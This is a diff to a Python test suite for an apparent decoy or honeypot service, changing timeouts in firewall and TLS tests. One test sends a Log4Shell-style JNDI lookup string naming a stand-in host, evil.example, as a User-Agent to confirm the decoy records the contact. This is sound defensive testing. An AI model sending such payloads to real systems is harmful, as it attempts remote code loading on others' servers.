@@ -38,11 +38,11 @@ class Stands(DecoyCase):
         self.network.on(self.host, "nft", "add table inet fw; add chain inet fw in { type filter hook input priority 0; policy drop; }; add rule inet fw in iif lo accept")
         decoy = Decoy(self.network, self.folder)
         self.decoys.append(decoy)
-        until("it knows that it is deaf", lambda: "deaf" in decoy.states(), 40)
+        until("it knows that it is deaf", lambda: "deaf" in decoy.states())
         self.assertIn("a firewall on this host (INPUT) drops it. Prove it from a peer: nc -zv -w 3 10.9.0.1", decoy.said())
         self.assertNotIn("alive", decoy.states())
         self.network.on(self.host, "nft", "delete table inet fw")
-        until("it hears again", lambda: "alive" in decoy.states(), 40)
+        until("it hears again", lambda: "alive" in decoy.states())
         decoy.stop()
 
     def test_a_full_disk(self):
@@ -105,7 +105,7 @@ class Stands(DecoyCase):
 
     def test_inside_tls(self):
         decoy = self.decoy()
-        page = self.network.on(self.peer, "curl", "-sk", "-m", "5", "-A", "${jndi:ldap://evil.example/tls}", "https://10.9.0.1:8443/in")
+        page = self.network.on(self.peer, "curl", "-sk", "-m", "60", "-A", "${jndi:ldap://evil.example/tls}", "https://10.9.0.1:8443/in")
         self.assertIn("<html", page.lower())
         until("it is recorded", lambda: any(c.get("url", {}).get("original") == "/in" for c in decoy.contacts()))
         decoy.stop()
